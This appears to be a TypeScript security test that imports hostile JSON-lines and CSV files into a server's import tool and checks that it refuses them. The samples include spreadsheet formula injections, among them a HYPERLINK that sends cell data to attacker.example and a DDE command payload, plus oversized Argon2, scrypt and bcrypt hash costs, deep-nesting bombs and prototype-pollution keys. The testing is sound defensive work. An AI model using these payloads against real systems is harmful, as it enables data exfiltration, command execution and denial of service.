import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { setTimeout as delay } from 'node:timers/promises'
import { serve } from '../bench/product.js'
import { call, demoAdminKey } from './call.js'
import type { Finding, Run } from './part.js'
import { type PostgresqlTarget, startOnPostgresql } from './targets.js'

/** A file that attacks the server, the command line or whoever reads the report. */
interface HostileFile {
  readonly promise: string
  readonly name: string
  readonly content: string
  readonly rows: number
  /** How many rows are imported; those that are refused or invalid are the others. */
  readonly created: number
  readonly existing?: number
}

/** Texts that a spreadsheet would run, were they a cell of what it opens. */
const formulas = [
  '=HYPERLINK("http://attacker.example/?"&A1,"click")',
  "=cmd|'/c calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '%0A=1+1',
]

/** Imports hostile files with the command line, while look-ups go on. */
export async function importPart({ workbench, isShort, update }: Run): Promise<Finding[]> {
  const target = await startOnPostgresql(workbench, { name: 'imports' })
  const findings: Finding[] = []
  const files = hostileFiles(isShort ? 1_000 : 10_000)
  const lookUps = startLookUps(target)
  for (const [index, file] of files.entries()) {
    update(index, files.length, `imports: ${file.promise}`)
    findings.push(await importFile(workbench, target, file))
  }
  findings.push(await lookUps.stop())
  findings.push(await refuseLargeBodies(target))
  await target.stop()
  return findings
}

function hostileFiles(many: number): HostileFile[] {
  const jsonLines = (rows: readonly unknown[]): string => `${rows.map((row) => JSON.stringify(row)).join('\n')}\n`
  const user = (username: string, passwordHash: string) => ({ type: 'security-user', username, passwordHash })
  const bcrypt14 = '$2b$14$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy'
  const broker = (name: string, index: number) => ({
    type: 'broker-user',
    name,
    hash: `hash ${index}`,
    secret: 'a secret',
  })
  const expensive = expensiveHashes()
  const bombs = rowBombs()
  return [
    {
      promise: `${many} hashes of bcrypt with cost 14 are refused`,
      name: 'bcrypt.jsonl',
      content: jsonLines(Array.from({ length: many }, (_, index) => user(`bcrypt-${index}@example.org`, bcrypt14))),
      rows: many,
      created: 0,
    },
    {
      promise: 'hashes of Argon2 and scrypt beyond the bounds of memory, time and lanes are refused',
      name: 'expensive.jsonl',
      content: jsonLines(expensive.map((hash, index) => user(`expensive-${index}@example.org`, hash))),
      rows: expensive.length,
      created: 0,
    },
    {
      promise: 'no formula of a refused CSV row comes back in the report',
      name: 'formulas.csv',
      content: [
        'type,name,hash,secret,active',
        ...formulas.map(
          (formula, index) => `broker-user,${csvCell(formula)},${csvCell(formula)},s${index},${csvCell(formula)}`,
        ),
        ...formulas.map((formula) => `${csvCell(formula)},n,h,s,true`),
        '',
      ].join('\n'),
      rows: 2 * formulas.length,
      created: 0,
    },
    {
      promise: 'of a row that stands there a thousand times one is created',
      name: 'duplicates.jsonl',
      content: jsonLines(Array.from({ length: 1_000 }, () => broker('the same', 0))),
      rows: 1_000,
      created: 1,
      existing: 999,
    },
    {
      promise: 'oversized fields, deep values and rows of many accounts are refused',
      name: 'bombs.jsonl',
      content: `${bombs.join('\n')}\n`,
      rows: bombs.length,
      created: 0,
    },
    {
      promise: 'a line of 20 MB without an end is passed over',
      name: 'line.csv',
      content: `type,name,hash,secret\nbroker-user,${'x'.repeat(20_000_000)}`,
      rows: 1,
      created: 0,
    },
  ]
}

function expensiveHashes(): string[] {
  const tail = 'c29tZXNhbHRzb21lc2FsdA$OWOb8pXZwQZ5AmLmRjmGe0tzsRojgU5Ga1BBFKTYQqc'
  const argon2 = (costs: string): string => `$argon2id$v=19$${costs}$${tail}`
  return [
    argon2('m=65537,t=1,p=1'),
    argon2('m=1048576,t=1,p=1'),
    argon2('m=4294967295,t=1,p=1'),
    argon2('m=65536,t=4,p=1'),
    argon2('m=4096,t=99,p=1'),
    argon2('m=8,t=4294967295,p=1'),
    argon2('m=4096,t=3,p=5'),
    argon2('m=65536,t=1,p=255'),
    argon2('m=0,t=1,p=1'),
    argon2('m=-1,t=1,p=1'),
    argon2('m=1e9,t=1,p=1'),
    argon2('t=1,p=1'),
    `$argon2i$v=19$m=4096,t=3,p=1$${tail}`,
    `$argon2id$v=19$m=4096,t=3,p=1$${'A'.repeat(900)}$`,
    `$scrypt$ln=20,r=8,p=1$${tail}`,
    `$scrypt$ln=14,r=8,p=255$${tail}`,
    `$scrypt$ln=63,r=1,p=1$${tail}`,
    '$2b$31$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy',
    '$2b$99$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy',
    '$pbkdf2-sha512$i=2147483647$c2FsdA$aGFzaA',
    '{CLEARTEXT}a password',
  ]
}

/** Lines that are small enough to be read, and larger than anything that is stored. */
function rowBombs(): string[] {
  const base = '"type":"broker-user","name":"n","hash":"h","secret":"s"'
  const accounts = Array.from({ length: 6_000 }, (_, index) => ({ name: `account ${index}` }))
  return [
    `{"type":"broker-user","name":"${'n'.repeat(200_000)}","hash":"h","secret":"s"}`,
    `{"type":"broker-user","name":"n","hash":"${'h'.repeat(200_000)}","secret":"s"}`,
    `{"type":"security-user","username":"u","password":"${'p'.repeat(200_000)}"}`,
    `{"type":"gateway-token","token":"${'t'.repeat(200_000)}","accountId":"a","description":"d"}`,
    `{${base},"accounts":${JSON.stringify(accounts)}}`,
    `{${base},"accounts":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
    `{${base},"__proto__":{"active":true}}`,
    `{${base},"constructor":{"prototype":{}}}`,
    `{"type":"access-key","name":"n","accessKey":"k","secret":"s","account":"a","company":"c","roles":${JSON.stringify(Array(20_000).fill('role'))}}`,
    `{"type":["broker-user"],"name":"n"}`,
    `{"type":"broker-user","name":"\\ud800","hash":"h","secret":"s"}`,
    `{"type":"broker-user","name":"\\u0000","hash":"h","secret":"s"}`,
    '['.repeat(100_000),
    `"${'x'.repeat(250_000)}"`,
    `{"type":"broker-user","name":"${'x'.repeat(300_000)}"}`,
  ]
}

function csvCell(text: string): string {
  return `"${text.replaceAll('"', '""')}"`
}

async function importFile(
  workbench: Run['workbench'],
  target: PostgresqlTarget,
  { promise, name, content, rows, created, existing = 0 }: HostileFile,
): Promise<Finding> {
  const path = (file: string): string => join(workbench.directory, file)
  await writeFile(path(name), content)
  await writeFile(path('admin-key'), demoAdminKey, { mode: 0o600 })
  const report = path(`${name}.report`)
  const program = serve.slice(0, -1)
  const options = ['--url', target.url, '--key-file', path('admin-key'), '--json']
  const child = workbench.spawn([...program, ...options, 'import', path(name), '--report', report], {})
  let printed = ''
  for (const stream of [child.stdout, child.stderr]) stream?.on('data', (chunk: Buffer) => (printed += String(chunk)))
  const exitCode = await new Promise((resolve) => child.on('close', resolve))
  const written = await readFile(report, 'utf8').catch(() => '')
  const summary = parsedSummary(printed)
  const broken: string[] = []
  const expected = { rows, created, existing, skipped: rows - created - existing }
  if (JSON.stringify(summary.counts) !== JSON.stringify(expected) || exitCode !== (expected.skipped > 0 ? 1 : 0))
    broken.push(`expected ${JSON.stringify(expected)}, got ${exitCode}: ${printed.slice(0, 500)}`)
  for (const text of [...formulas, 'argon2id$', '$2b$', 'nnnn', 'a secret']) {
    if (`${printed}${written}`.includes(text.trim())) broken.push(`shows ${text}`)
  }
  return { promise, attempts: rows, seen: `${summary.seconds} s`, broken }
}

function parsedSummary(printed: string): { counts: object; seconds: number } {
  try {
    const { rows, created, existing, refused, invalid, seconds } = JSON.parse(printed)
    return { counts: { rows, created, existing, skipped: refused + invalid }, seconds }
  } catch {
    return { counts: {}, seconds: 0 }
  }
}

/** Looks a token up again and again. */
function startLookUps({ url }: PostgresqlTarget): { stop(): Promise<Finding> } {
  const durationsMs: number[] = []
  const broken: string[] = []
  let isStopped = false
  const running = (async () => {
    while (!isStopped) {
      const startedAt = performance.now()
      const { status } = await call(url, 'GET', '/v1/api/auth', {
        bearer: 'twg_GatewayAccount1DemoTokenIsActive2qte6G',
      })
      const durationMs = performance.now() - startedAt
      durationsMs.push(durationMs)
      if (status !== 200 || durationMs > 2_000) broken.push(`${status} after ${Math.round(durationMs)} ms`)
      await delay(50)
    }
  })()
  return {
    async stop() {
      isStopped = true
      await running
      const slowest = Math.round(Math.max(...durationsMs))
      const promise = 'look-ups during these imports are answered within 2 s'
      return { promise, attempts: durationsMs.length, seen: `slowest ${slowest} ms`, broken }
    },
  }
}

async function refuseLargeBodies({ url }: PostgresqlTarget): Promise<Finding> {
  const row = { type: 'broker-user', name: 'n', hash: 'h', secret: 's' }
  const bodies: [string, object][] = [
    ['larger than 4 MiB', { rows: [{ ...row, name: 'x'.repeat(4 * 2 ** 20) }] }],
    ['more rows than allowed', { rows: Array(5_000).fill(row) }],
    ['no rows', { rows: [] }],
  ]
  const broken: string[] = []
  for (const [what, body] of bodies) {
    const answer = await call(url, 'POST', '/operator/v1/imports', { bearer: demoAdminKey, body }).catch(
      () => undefined,
    )
    if (answer && (answer.status < 400 || answer.status >= 500)) broken.push(`${what}: ${answer.status}`)
    if (!answer) broken.push(`${what}: no answer`)
  }
  return { promise: 'batches that are too large or empty are refused', attempts: bodies.length, broken }
}
